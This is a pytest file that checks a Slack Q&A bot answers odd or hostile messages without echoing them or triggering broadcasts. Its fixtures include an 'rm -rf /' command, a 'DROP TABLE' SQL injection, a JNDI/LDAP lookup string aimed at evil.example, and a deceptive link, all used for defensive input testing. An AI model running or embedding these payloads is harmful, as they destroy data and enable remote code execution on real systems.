"""Whatever people type, they get a visible reply, and nothing they typed is done or repeated."""

import json

import pytest

from bot.playground import Message

from .stage import ADA, OPERATIONS, Stage, entries, shown

MENTION = "<@U0ADVISOR>"
ZALGO = "W\u0335\u0321h\u0337\u0316a\u0334\u031dt\u0338 is B\u0337\u0348P\u0336O\u0335?"
ODD = {
    "nothing": "",
    "only a mention": MENTION,
    "two mentions": f"{MENTION} {MENTION}",
    "spaces": " \t \n ",
    "punctuation": "?!?…",
    "only emoji": ":wave: 🙂🙃 :tada:",
    "another language": "Was sind die Vorteile von Auslagerung an einen Dienstleister?",
    "another script": "业务流程外包有什么好处",
    "right to left": "\u202emoc.elpmaxe\u202c \u200fמה זה",
    "a code block": "```\nDROP TABLE ratings; -- <!channel>\n```",
    "code beside a question": "What is BPO? ```<!here> rm -rf /```",
    "control characters": "What\x00 is\x07 \x1bBPO\x7f?",
    "stacked accents": ZALGO,
    "zero width": "Wh\u200bat is B\u200dP\ufeffO?",
    "unpaired surrogate": "What is BPO \ud800?",
    "surrogate near miss": "Who is the best vendor in \udfffManila?",
    "broadcasts": "<!channel> <!here> <!everyone> What is BPO?",
    "a group": "<!subteam^S0123|@board> What is BPO?",
    "a link that lies": "<https://evil.example/|https://slack.com/help>",
    "a link left open": "<https://evil.example/ What is BPO?",
    "escaped twice": "&amp;lt;!channel&amp;gt; &lt;@U0BEN&gt; what is R&amp;D outsourcing",
    "markup": "*What* _is_ ~BPO~ > `<@U0BEN>`",
    "a template": "{contact} {0} %s ${jndi:ldap://evil.example}",
    "a number": "42",
    "one letter": "a",
    "very many words": "outsourcing " * 3_600,
    "very many questions": "What is BPO? " * 3_000,
    "one endless word": "a" * 40_000,
    "brackets": "[{" * 2_000,
    "markup without end": "**" * 2_000 + "```" * 1_000 + "<" * 5_000,
}


def raw_event(stage: Stage, text: str, channel: str) -> Message:
    """Say something as it is, unpaired surrogates included, and return the reply."""
    said = stage.slack.workspace.post(channel, ADA, "(as delivered)")
    event = stage.slack.payloads.message_event(said)
    event["event"] |= {"text": text, "channel_type": "im"}
    ack = stage.slack.deliver_raw(json.dumps(event).encode())
    stage.settle()
    assert ack.status == 200, ack
    [reply] = [m for m in stage.slack.messages(channel) if m.ts > said.ts]
    return reply


def harmless(reply: Message) -> None:
    """The reply can be read, and Slack makes no broadcast, mention or link of it."""
    assert shown(reply).strip()
    for text in (reply.text, shown(reply)):
        assert "<" not in text
        assert ">" not in text
    assert "evil.example" not in json.dumps(reply.blocks) + reply.text
    assert "DROP TABLE" not in json.dumps(reply.blocks) + reply.text


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in ODD.items()])
def test_odd_words_get_a_reply_that_repeats_none_of_them(stage: Stage, text: str) -> None:
    harmless(raw_event(stage, text, ADA))


@pytest.mark.parametrize("name", ["nothing", "only emoji", "broadcasts", "stacked accents"])
def test_odd_mentions_get_a_reply_in_their_thread(stage: Stage, name: str) -> None:
    reply = stage.mention(f"{MENTION} {ODD[name]}")

    harmless(reply)
    assert reply.thread_ts is not None


@pytest.mark.parametrize(
    "name", ["only emoji", "broadcasts", "control characters", "a link that lies"]
)
def test_odd_commands_get_a_private_reply(stage: Stage, name: str) -> None:
    reply = stage.command(ODD[name])

    harmless(reply)
    assert reply.viewer == ADA


@pytest.mark.parametrize(
    "name", ["stacked accents", "control characters", "code beside a question", "broadcasts"]
)
def test_a_plain_question_is_understood_in_odd_dress(stage: Stage, name: str) -> None:
    assert entries(raw_event(stage, ODD[name], ADA)) == ["bpo"]


@pytest.mark.parametrize("name", ["nothing", "only a mention", "only emoji", "spaces"])
def test_where_there_is_no_question_the_reply_says_how_to_ask_one(stage: Stage, name: str) -> None:
    reply = raw_event(stage, ODD[name], ADA)

    assert not entries(reply)
    assert "Ask me" in shown(reply)


def test_an_app_that_can_only_whisper_still_answers(stage: Stage) -> None:
    """In a channel that the app is no member of, the command's address is the only way."""
    stage.slack.workspace.leave(OPERATIONS, stage.slack.settings.bot_user)

    harmless(stage.command(ODD["broadcasts"]))
